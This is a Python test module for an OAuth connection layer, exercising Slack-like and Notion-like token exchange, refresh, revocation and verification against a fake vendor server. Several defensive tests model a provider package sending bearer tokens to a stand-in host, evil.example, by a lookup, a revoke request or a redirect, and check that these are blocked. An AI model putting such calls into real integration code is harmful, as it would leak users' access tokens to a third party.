"""Vendors that answer, refuse and revoke in their own ways, over real HTTP through the real handshake."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import parse_qs, parse_qsl, urlencode, urlsplit

import pytest

from integrations.actors import SYSTEM, Actor
from integrations.catalog.registry import Catalog, using
from integrations.connect.accounts import disconnect
from integrations.connect.accounts.disconnected import Disconnected
from integrations.connect.handshake.attempts import begin_login
from integrations.connect.tests.conftest import Browser, credential_of
from integrations.connect.tokens import grants
from integrations.connect.tokens.oauth_apps import save_app
from integrations.egress.tests.vendor import Received, Vendor, ok, status
from integrations.holders import Holder
from integrations.models import Connection, Grant, OAuthApp
from integrations.providers import registry
from integrations.providers.consent import Tokens
from integrations.providers.declare import Provider
from integrations.providers.oauth2 import NotRevocable, Revocation
from integrations.providers.requests import OAuthClient, VendorRequest
from integrations.providers.tests.declared import NOTION, SLACK, courier
from integrations.services.gmail.service import service as gmail

SLACK_ANSWER = {
    "ok": True,
    "access_token": "xoxb-bot",
    "scope": "chat:write",
    "team": {"id": "T1", "name": "Globex"},
    "authed_user": {
        "id": "U1",
        "access_token": "xoxp-user",
        "scope": "search:read,users:read",
        "refresh_token": "xoxe-1",
        "expires_in": 43200,
    },
}
NOTION_ANSWER = {
    "access_token": "ntn_1",
    "token_type": "bearer",
    "bot_id": "b-1",
    "workspace_name": "Globex",
    "workspace_id": "w-1",
    "owner": {"type": "user", "user": {"id": "u-1", "person": {"email": "ada@globex.example"}}},
}


@pytest.fixture
def vendor() -> Iterator[Vendor]:
    server = Vendor()
    yield server
    server.close()


@dataclass
class Connect:
    """Connects the owner's account at a provider whose addresses the vendor serves; gives the page it ends on."""

    vendor: Vendor
    settings: Any
    operator: Actor
    browser: Browser
    entered: ExitStack
    asked: dict[str, str] = field(default_factory=dict)
    """What the person was sent away with."""

    def __call__(self, facts: Provider, *, scopes: tuple[str, ...] = (), **query: str) -> str:
        service = replace(gmail, key="things", provider=facts.key, scopes=dict.fromkeys(scopes, "See things"))
        self.entered.enter_context(registry.using(facts))
        self.entered.enter_context(using(Catalog([service])))
        addresses = {name: self.vendor.url + urlsplit(url).path for name, url in facts.addresses.items()}
        self.settings.MACHINA_ENDPOINTS = {facts.key: addresses}
        save_app(SYSTEM, provider=facts.key, client_id="me", client_secret="s:cret")
        key = self.browser.client.session.session_key
        start = begin_login(self.operator, facts.key, None, key, holder=Holder.owner())
        self.asked = dict(parse_qsl(urlsplit(self.browser.open(start)["Location"]).query))
        back = {"code": "c-1", "state": self.asked["state"], **query}
        return self.browser.open(f"{self.asked['redirect_uri']}?{urlencode(back)}").content.decode()


@pytest.fixture
def connect(vendor: Vendor, settings: Any, operator: Actor, staff_browser: Browser) -> Iterator[Connect]:
    with ExitStack() as entered:
        yield Connect(vendor, settings, operator, staff_browser, entered)


def tokens() -> tuple[str, str]:
    grant = Grant.objects.get()
    return grants.open_access(grant), grants.open_refresh(grant)


def sent(vendor: Vendor, path: str) -> list[Received]:
    return [each for each in vendor.received if each.path.partition("?")[0] == path]


def test_tokens_and_scopes_below_another_name(connect: Connect, vendor: Vendor) -> None:
    vendor.answers(ok(SLACK_ANSWER))
    connect(SLACK, scopes=("search:read", "users:read", "files:read"))

    connection = Connection.objects.get()
    asked = connect.asked
    assert asked["user_scope"] == "search:read,users:read,files:read"
    assert "scope" not in asked
    assert (connection.account_id, connection.account_domain, connection.name) == ("T1/U1", "T1", "Globex")
    assert connection.scopes == ["search:read", "users:read"]
    assert connection.status == "scope_missing"
    assert tokens() == ("xoxp-user", "xoxe-1")
    form = parse_qs(vendor.received[0].body.decode())
    assert (form["client_id"], form["client_secret"], form["code"]) == (["me"], ["s:cret"], ["c-1"])
    assert len(form["code_verifier"][0]) >= 43


def test_a_vendor_that_refuses_pkce_is_asked_without_it(connect: Connect, vendor: Vendor) -> None:
    vendor.answers(ok(SLACK_ANSWER))
    connect(replace(SLACK, credential=replace(SLACK.oauth2, pkce=False)))

    assert not [name for name in connect.asked if name.startswith("code_challenge")]
    assert "code_verifier" not in parse_qs(vendor.received[0].body.decode())
    assert tokens() == ("xoxp-user", "xoxe-1")


def test_a_refreshed_token_may_lie_elsewhere_and_rotates(connect: Connect, vendor: Vendor) -> None:
    vendor.answers(ok(SLACK_ANSWER), ok({"ok": True, "access_token": "xoxp-2", "refresh_token": "xoxe-2"}))
    connect(SLACK)
    assert credential_of(Connection.objects.get()).rejected("xoxp-user")

    assert tokens() == ("xoxp-2", "xoxe-2")
    assert parse_qs(vendor.received[1].body.decode())["refresh_token"] == ["xoxe-1"]


def test_a_refusal_with_status_200_ends_the_grant_by_the_vendors_own_word(connect: Connect, vendor: Vendor) -> None:
    vendor.answers(ok(SLACK_ANSWER), ok({"ok": False, "error": "invalid_refresh_token"}))
    connect(SLACK)
    with pytest.raises(Exception, match="no longer accepts"):
        credential_of(Connection.objects.get()).rejected("xoxp-user")

    connection = Connection.objects.get()
    assert (connection.status, connection.status_reason) == ("needs_reconnect", "invalid_grant")


@pytest.mark.parametrize(
    ("word", "words", "health"),
    [
        ("bad_client_secret", "does not accept the OAuth app", "unhealthy"),
        ("invalid_code", "reported an error and gave no access", "healthy"),
    ],
)
def test_a_refused_code_is_told_by_whose_fault_it_is(
    connect: Connect, vendor: Vendor, word: str, words: str, health: str
) -> None:
    vendor.answers(ok({"ok": False, "error": word}))
    page = connect(SLACK)

    assert words in page
    assert not Connection.objects.exists()
    assert OAuthApp.objects.get().health == health


@pytest.mark.parametrize(
    ("answer", "revoked"),
    [
        (ok({"ok": True, "revoked": True}), True),
        (ok({"ok": False, "error": "token_revoked"}), True),
        (ok({"ok": False, "error": "something_else"}), False),
        (status(500, {}), False),
    ],
)
def test_revoking_by_a_get_with_the_access_token(connect: Connect, vendor: Vendor, answer: Any, revoked: bool) -> None:
    vendor.answers(ok(SLACK_ANSWER), answer)
    connect(SLACK)
    ended = disconnect.disconnect(SYSTEM, Connection.objects.get())

    assert ended.at_provider == ("revoked" if revoked else "retrying")
    (asked,) = sent(vendor, "/api/auth.revoke")
    assert (asked.method, asked.headers["authorization"]) == ("GET", "Bearer xoxp-user")
    assert not Grant.objects.exists()


def test_basic_authentication_json_and_a_header_of_the_vendors_own(connect: Connect, vendor: Vendor) -> None:
    vendor.answers(ok(NOTION_ANSWER))
    connect(NOTION)

    (exchange,) = sent(vendor, "/v1/oauth/token")
    assert exchange.headers["authorization"] == "Basic bWU6czpjcmV0"
    assert exchange.headers["notion-version"] == "2022-06-28"
    assert exchange.headers["content-type"] == "application/json"
    body = json.loads(exchange.body)
    assert body.keys() == {"grant_type", "code", "redirect_uri", "code_verifier"}
    assert body["code"] == "c-1"


def test_what_a_stock_allauth_provider_leaves_out_is_sent(connect: Connect, vendor: Vendor) -> None:
    """allauth's own Notion sends neither PKCE, nor additional parameters, nor a redirect address."""
    vendor.answers(ok(NOTION_ANSWER))
    connect(NOTION)

    asked = connect.asked
    assert asked["code_challenge_method"] == "S256"
    assert len(asked["code_challenge"]) == 43
    assert asked["owner"] == "user"
    assert asked["redirect_uri"].endswith("/api/notionlike/callback")
    assert "scope" not in asked


def test_a_bot_in_a_workspace_is_an_account_whose_access_lasts(connect: Connect, vendor: Vendor) -> None:
    vendor.answers(ok(NOTION_ANSWER))
    page = connect(NOTION)

    connection = Connection.objects.get()
    assert (connection.account_id, connection.email, connection.name) == ("b-1", "ada@globex.example", "Globex")
    assert (connection.status, connection.status_reason) == ("active", "")
    assert tokens() == ("ntn_1", "")
    assert Grant.objects.get().expires_at is None
    assert "ntn_1" not in page


def test_what_cannot_be_revoked_is_deleted_here_and_said_truly(connect: Connect, vendor: Vendor) -> None:
    vendor.answers(ok(NOTION_ANSWER))
    connect(NOTION)
    before = len(vendor.received)
    ended = disconnect.disconnect(SYSTEM, Connection.objects.get())

    assert (ended.at_provider, ended.revoked_at_provider) == ("not_revocable", False)
    assert ended.words == (
        "Notion-like offers no way to end the access from here: it stays until the account's owner removes it at"
        " https://notion.example/my-integrations"
    )
    assert not Grant.objects.exists()
    assert len(vendor.received) == before


def test_an_answer_that_names_no_account_connects_nothing(connect: Connect, vendor: Vendor) -> None:
    vendor.answers(ok({"access_token": "a", "refresh_token": "r"}), ok({"email": "ada@globex.example"}))
    page = connect(courier())

    assert "could not be verified" in page
    assert not Connection.objects.exists()


@pytest.mark.parametrize("answer", [status(403, {"message": "no"}), ok(b"<html>"), ok([1, 2])])
def test_a_vendor_that_does_not_say_whose_account_connects_nothing(
    connect: Connect, vendor: Vendor, answer: Any
) -> None:
    vendor.answers(ok({"access_token": "a", "refresh_token": "r"}), answer)
    page = connect(courier())

    assert "could not be verified" in page
    assert not Connection.objects.exists()
    assert vendor.received[1].headers["authorization"] == "Bearer a"


def test_an_answer_written_as_a_form_is_read(connect: Connect, vendor: Vendor) -> None:
    form = b"access_token=a&refresh_token=r&expires_in=3600"
    vendor.answers(status(200, form, content_type="application/x-www-form-urlencoded"), ok({"sub": "7"}))
    connect(courier())

    assert Connection.objects.get().account_id == "7"
    assert tokens() == ("a", "r")


def test_an_issuer_that_is_not_the_providers_is_refused(connect: Connect, vendor: Vendor) -> None:
    page = connect(courier(), iss="https://accounts.google.com")

    assert "could not be verified" in page
    assert vendor.received == []


def test_a_provider_cannot_send_a_token_to_somebody_else(connect: Connect, vendor: Vendor) -> None:
    """Attack: a package asks another host whose account it is, to learn the token."""
    vendor.answers(ok({"access_token": "a", "refresh_token": "r"}))
    page = connect(courier(identify=lambda consented: consented.get("https://evil.example/me")))

    assert "Nothing has been connected" in page
    assert not Connection.objects.exists()
    assert len(vendor.received) == 1


def test_each_ending_is_said_in_its_own_words() -> None:
    with registry.using(courier(revocation=NotRevocable())):
        connection = Connection(provider="courier")
        said = {
            ending: Disconnected(connection, ending).words
            for ending in ("revoked", "in_use", "not_revocable", "failed", "nothing")
        }

    assert len(set(said.values())) == 5
    assert all("Courier" in words for words in said.values())
    leads_away = {ending for ending, words in said.items() if words.endswith(" https://courier.example/apps")}
    assert leads_away == {"in_use", "not_revocable", "failed"}


def test_a_provider_cannot_revoke_at_somebody_else(connect: Connect, vendor: Vendor) -> None:
    """Attack: a package sends the tokens to another host when they are to be ended."""

    def revoke(client: OAuthClient, given: Tokens) -> VendorRequest:
        return VendorRequest("POST", "https://evil.example/revoke", {"Authorization": f"Bearer {given.access}"})

    vendor.answers(ok({"access_token": "a", "refresh_token": "r"}), ok({"sub": "7"}))
    connect(courier(revocation=Revocation(request=revoke, ends="token")))
    ended = disconnect.disconnect(SYSTEM, Connection.objects.get())

    assert ended.at_provider == "retrying"
    assert len(vendor.received) == 2


def test_a_token_address_that_redirects_is_not_followed(connect: Connect, vendor: Vendor) -> None:
    vendor.answers(status(302, b"", location="https://evil.example/token"))
    page = connect(courier())

    assert "reported an error and gave no access" in page
    assert len(vendor.received) == 1
